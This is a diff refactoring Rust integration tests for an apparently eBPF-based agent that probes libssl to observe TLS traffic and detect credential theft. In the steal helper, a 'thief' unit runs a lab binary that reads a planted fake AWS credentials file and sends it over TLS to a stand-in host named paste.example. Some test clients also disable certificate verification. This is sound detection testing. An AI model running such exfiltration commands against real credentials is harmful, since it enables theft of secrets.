@@ -76,7 +76,7 @@ impl Drop for Mount {
     }
 }
 
-/// Whether a program of Python can use a copy of libssl at a place, and what it presents with it.
+/// A program of Python with the TLS libraries of a directory.
 fn python_with(library: &Path, script: &str, arguments: &[&str]) -> Command {
     let mut command = Command::new("python3");
     command
@@ -106,6 +106,14 @@ context.check_hostname = False
 context.verify_mode = ssl.CERT_NONE
 request = urllib.request.Request(sys.argv[1], headers={'Authorization': 'Bearer ' + sys.argv[2]})
 urllib.request.urlopen(request, context=context).read()";
+
+/// Presents a secret through the TLS libraries of a directory.
+fn present_with(library: &Path, server: &WebServer, secret: &str) -> Result<()> {
+    let url = format!("https://{}/", server.address);
+    let output = python_with(library, PRESENT, &[&url, secret]).output()?;
+    ensure!(output.status.success(), "{output:?}");
+    Ok(())
+}
 
 /// Mounts and unmounts beside an agent with these capabilities; gives how many were busy.
 fn busy_mounts(capabilities: &[&str], rounds: usize) -> Result<usize> {
@@ -169,18 +177,10 @@ fn a_library_that_a_short_process_opened_first_is_attached_to() -> Result<()> {
             &[],
         )?;
     }
-    let url = format!("https://{}/", server.address);
     let secret = "FAKE.copied-library-000000000000";
-    wait_for(
-        "what is presented through the copy",
-        Duration::from_secs(10),
-        || {
-            let output = python_with(&place, PRESENT, &[&url, secret]).output()?;
-            ensure!(output.status.success(), "{output:?}");
-            Ok((!agent.presented(secret)?.is_empty()).then_some(()))
-        },
-    )
-    .with_context(|| agent.log_text())?;
+    agent.await_presented(secret, Duration::from_secs(10), || {
+        present_with(&place, &server, secret)
+    })?;
     let line = format!(
         "TLS probes attached file={}",
         place.join("libssl.so.3").display()
@@ -223,20 +223,13 @@ sys.stdin.read()";
     );
     ensure!(first_line(&mut changed)? == "changed\n");
     wait_for("the warning", Duration::from_secs(10), || {
-        let text = agent.log_text();
-        let warned = |line: &str| line.contains("other bytes") && line.contains("libssl");
-        Ok(text.lines().any(warned).then_some(()))
+        Ok((agent.logged(&["other bytes", "libssl"]) > 0).then_some(()))
     })
     .with_context(|| agent.log_text())?;
-    let url = format!("https://{}/", server.address);
     let secret = "FAKE.not-hidden-000000000000000";
-    wait_for("what another presents", Duration::from_secs(10), || {
-        let output = python_with(&place, PRESENT, &[&url, secret]).output()?;
-        ensure!(output.status.success(), "{output:?}");
-        Ok((!agent.presented(secret)?.is_empty()).then_some(()))
+    agent.await_presented(secret, Duration::from_secs(10), || {
+        present_with(&place, &server, secret)
     })
-    .with_context(|| agent.log_text())?;
-    Ok(())
 }
 
 /// An in-place change moves functions: probes at their old places would break the program.
@@ -247,31 +240,23 @@ fn a_library_that_is_overwritten_in_place_loses_its_probes() -> Result<()> {
     let server = WebServer::start("127.0.0.1")?;
     let place = private_libraries(directory.path())?;
     let copy = place.join("libssl.so.3");
-    let url = format!("https://{}/", server.address);
     let attached = format!("TLS probes attached file={}", copy.display());
     let detached = format!("TLS probes detached file={}", copy.display());
-    let count = |text: &str| agent.log_text().matches(text).count();
     wait_for("probes in the copy", Duration::from_secs(10), || {
-        python_with(&place, PRESENT, &[&url, "FAKE.x"]).output()?;
-        Ok((count(&attached) == 1).then_some(()))
+        present_with(&place, &server, "FAKE.x")?;
+        Ok((agent.logged(&[&attached]) == 1).then_some(()))
     })?;
     File::options()
         .append(true)
         .open(&copy)?
         .write_all(b"more")?;
     wait_for("no probes after the change", Duration::from_secs(2), || {
-        Ok((count(&detached) == 1).then_some(()))
+        Ok((agent.logged(&[&detached]) == 1).then_some(()))
     })?;
     let secret = "FAKE.overwritten-0000000000000";
-    wait_for(
-        "probes where the functions are now",
-        Duration::from_secs(10),
-        || {
-            python_with(&place, PRESENT, &[&url, secret]).output()?;
-            Ok((!agent.presented(secret)?.is_empty()).then_some(()))
-        },
-    )?;
-    Ok(())
+    agent.await_presented(secret, Duration::from_secs(10), || {
+        present_with(&place, &server, secret)
+    })
 }
 
 #[test]
@@ -333,9 +318,7 @@ fn excluded_programs_have_no_probes() -> Result<()> {
     stdin.write_all(request.as_bytes())?;
     drop(stdin);
     ensure!(curl.0.wait()?.success());
-    wait_for("what it presented", Duration::from_secs(5), || {
-        Ok((!agent.presented(shown)?.is_empty()).then_some(()))
-    })?;
+    agent.await_presented(shown, Duration::from_secs(5), || Ok(()))?;
     python_presents()?;
     ensure!(
         differences(excluded.0.id(), &ssl)?.is_empty(),
@@ -350,15 +333,7 @@ fn excluded_programs_have_no_probes() -> Result<()> {
     // Not excluded any more, without a restart.
     fs::write(&config, "mode: alert\n")?;
     agent.await_loaded()?;
-    wait_for(
-        "the program that was excluded",
-        Duration::from_secs(10),
-        || {
-            python_presents()?;
-            Ok((!agent.presented(hidden)?.is_empty()).then_some(()))
-        },
-    )?;
-    Ok(())
+    agent.await_presented(hidden, Duration::from_secs(10), python_presents)
 }
 
 /// A program that is linked statically is excluded by itself: libraries stay as they are.
@@ -380,13 +355,7 @@ fn excluding_a_static_program_changes_nothing_for_others() -> Result<()> {
         .arg(format!("https://{}/", server.address))
         .status()?;
     ensure!(status.success());
-    wait_for(
-        "the first thing that a short program presents",
-        Duration::from_secs(5),
-        || Ok((!agent.presented(shown)?.is_empty()).then_some(())),
-    )
-    .with_context(|| agent.log_text())?;
-    Ok(())
+    agent.await_presented(shown, Duration::from_secs(5), || Ok(()))
 }
 
 /// What a program says first.
@@ -418,17 +387,10 @@ impl Drop for Running {
     }
 }
 
-fn theft(agent: &Agent, directory: &Path, server: &TlsServer, number: u32) -> Result<Duration> {
-    let key = aws_credentials(
-        &directory.join(format!("victim-{number}")),
-        &format!("AKIAFAKETHEFT{number:07}"),
-        &format!("FAKE/theft/{number:029}"),
-    )?;
-    let thief = Unit::new("thief.service")?;
+/// Takes what is at a place to a server where it does not belong.
+fn steal(place: &str, server: &TlsServer) -> Result<()> {
     let actor = binary()?.with_file_name("lab-actor");
-    let place = key.display().to_string();
-    let began = Instant::now();
-    thief.sh(
+    Unit::new("thief.service")?.sh(
         &format!(
             "{} --get open --path {place} --connect tls --to {} --name paste.example",
             actor.display(),
@@ -436,6 +398,18 @@ fn theft(agent: &Agent, directory: &Path, server: &TlsServer, number: u32) -> Re
         ),
         &[],
     )?;
+    Ok(())
+}
+
+fn theft(agent: &Agent, directory: &Path, server: &TlsServer, number: u32) -> Result<Duration> {
+    let key = aws_credentials(
+        &directory.join(format!("victim-{number}")),
+        &format!("AKIAFAKETHEFT{number:07}"),
+        &format!("FAKE/theft/{number:029}"),
+    )?;
+    let place = key.display().to_string();
+    let began = Instant::now();
+    steal(&place, server)?;
     agent.await_finding(|finding| {
         finding["rule"] == "unexpected-hop"
             && finding["credential"]["sources"]
@@ -547,13 +521,10 @@ fn hostile_files_of_nobody_beside_a_theft_and_across_a_restart() -> Result<()> {
     // New libraries are still found.
     let libs = private_libraries(directory.path())?;
     let web = WebServer::start("127.0.0.1")?;
-    let url = format!("https://{}/", web.address);
     let secret = "FAKE.after-hostile-00000000000";
-    wait_for("TLS in a new library", Duration::from_secs(20), || {
-        python_with(&libs, PRESENT, &[&url, secret]).output()?;
-        Ok((!agent.presented(secret)?.is_empty()).then_some(()))
-    })
-    .with_context(|| agent.log_text())?;
+    agent.await_presented(secret, Duration::from_secs(20), || {
+        present_with(&libs, &web, secret)
+    })?;
     let peak = limit.peak().unwrap_or_default() >> 20;
     println!("memory at most, with the cache of files: {peak} MiB of 192");
     let began = Instant::now();
@@ -584,11 +555,7 @@ connection.close()",
         )?;
         let place = key.display().to_string();
         sh(&format!("cat {place} >/dev/null"), &[])?;
-        agent.await_json(&["query", "who", &place], |answer| {
-            answer["uses"]
-                .as_array()
-                .is_some_and(|uses| !uses.is_empty())
-        })?;
+        agent.await_used(&place)?;
         // A client that opens it, and one of Keytrail's own, which the agent observes as well.
         let output = Command::new("python3").args(["-c", &client]).output()?;
         ensure!(output.status.success(), "{output:?}");
@@ -657,11 +624,7 @@ sqlite3.connect(sys.argv[1]).execute('select 1 from credential').fetchone()",
     )?;
     let place = key.display().to_string();
     sh(&format!("cat {place} >/dev/null"), &[])?;
-    agent.await_json(&["query", "who", &place], |answer| {
-        answer["uses"]
-            .as_array()
-            .is_some_and(|uses| !uses.is_empty())
-    })?;
+    agent.await_used(&place)?;
     agent.kill()?;
     ensure!(
         agent.json(&["query", "who", &place])?.is_some(),
@@ -710,17 +673,8 @@ for number in range(6000):
         &"FAKE/stopped/".repeat(4)[..40],
     )?;
     let place = key.display().to_string();
-    let thief = Unit::new("thief.service")?;
-    let actor = binary()?.with_file_name("lab-actor");
     let began = Instant::now();
-    thief.sh(
-        &format!(
-            "{} --get open --path {place} --connect tls --to {} --name paste.example",
-            actor.display(),
-            server.address
-        ),
-        &[],
-    )?;
+    steal(&place, &server)?;
     agent.await_json(&["query", "where", &place], |answer| {
         answer["hops"]
             .as_array()
@@ -877,11 +831,7 @@ fn a_second_agent_neither_fails_nor_flags_the_first() -> Result<()> {
         ],
     )?;
     for agent in [&first, &second] {
-        agent.await_json(&["query", "who", &place], |answer| {
-            answer["uses"]
-                .as_array()
-                .is_some_and(|uses| !uses.is_empty())
-        })?;
+        agent.await_used(&place)?;
         let findings = agent.findings()?;
         let about_agents: Vec<&Value> = findings
             .iter()
@@ -974,6 +924,38 @@ impl Drop for KubeletDirectory {
     }
 }
 
+/// A process that has so many copies of a TLS library mapped, once the agent has attached to each.
+fn hold_libraries(
+    agent: &Agent,
+    directory: &Path,
+    count: usize,
+    limit: Duration,
+) -> Result<Running> {
+    let source = library("libssl.so.3")?;
+    let paths: Vec<PathBuf> = (0..count)
+        .map(|number| directory.join(format!("libssl-{number}.so")))
+        .collect();
+    for path in &paths {
+        fs::copy(&source, path)?;
+    }
+    let script = "import ctypes, sys
+for path in sys.argv[1:]:
+    ctypes.CDLL(path)
+sys.stdin.read()";
+    let holder = Running(
+        Command::new("python3")
+            .args(["-c", script])
+            .args(&paths)
+            .stdin(Stdio::piped())
+            .spawn()?,
+    );
+    wait_for("probes in all of them", limit, || {
+        let attached = agent.logged(&["TLS probes attached", "libssl-"]);
+        Ok((attached == count).then_some(()))
+    })?;
+    Ok(holder)
+}
+
 /// On kernels without multi-uprobe links a killed agent leaves its events in tracefs. They do not
 /// delay the next one, which deletes them.
 #[test]
@@ -985,32 +967,7 @@ fn leftovers_of_a_killed_agent_do_not_delay_the_next() -> Result<()> {
         ..Surroundings::default()
     };
     let mut agent = Agent::start_as(directory.path(), &[], &surroundings)?;
-    let source = library("libssl.so.3")?;
-    let paths: Vec<PathBuf> = (0..FILES)
-        .map(|number| directory.path().join(format!("libssl-{number}.so")))
-        .collect();
-    for path in &paths {
-        fs::copy(&source, path)?;
-    }
-    let script = "import ctypes, sys
-for path in sys.argv[1:]:
-    ctypes.CDLL(path)
-sys.stdin.read()";
-    let _holder = Running(
-        Command::new("python3")
-            .args(["-c", script])
-            .args(&paths)
-            .stdin(Stdio::piped())
-            .spawn()?,
-    );
-    wait_for("probes in all of them", Duration::from_secs(120), || {
-        let log = agent.log_text();
-        let attached = log
-            .lines()
-            .filter(|line| line.contains("TLS probes attached") && line.contains("libssl-"))
-            .count();
-        Ok((attached == FILES).then_some(()))
-    })?;
+    let _holder = hold_libraries(&agent, directory.path(), FILES, Duration::from_secs(120))?;
     let pid = agent.pid();
     agent.kill()?;
     let events = || fs::read_to_string("/sys/kernel/tracing/uprobe_events").unwrap_or_default();
@@ -1036,35 +993,7 @@ fn an_agent_with_many_files_ends_in_time_and_leaves_nothing() -> Result<()> {
     const FILES: usize = 100;
     let directory = tempfile::tempdir()?;
     let mut agent = Agent::start(directory.path(), &[])?;
-    let source = library("libssl.so.3")?;
-    let mut holders = Vec::new();
-    let script = "import ctypes, sys
-for path in sys.argv[1:]:
-    ctypes.CDLL(path)
-print('held', flush=True)
-sys.stdin.read()";
-    let paths: Vec<PathBuf> = (0..FILES)
-        .map(|number| directory.path().join(format!("libssl-{number}.so")))
-        .collect();
-    for path in &paths {
-        fs::copy(&source, path)?;
-    }
-    holders.push(Running(
-        Command::new("python3")
-            .args(["-c", script])
-            .args(&paths)
-            .stdin(Stdio::piped())
-            .stdout(Stdio::null())
-            .spawn()?,
-    ));
-    wait_for("probes in all of them", Duration::from_secs(60), || {
-        let attached = agent
-            .log_text()
-            .lines()
-            .filter(|line| line.contains("TLS probes attached") && line.contains("libssl-"))
-            .count();
-        Ok((attached == FILES).then_some(()))
-    })?;
+    let _holder = hold_libraries(&agent, directory.path(), FILES, Duration::from_secs(60))?;
     let began = Instant::now();
     let status = agent.stop()?;
     println!("{FILES} files: ended after {:?}", began.elapsed());
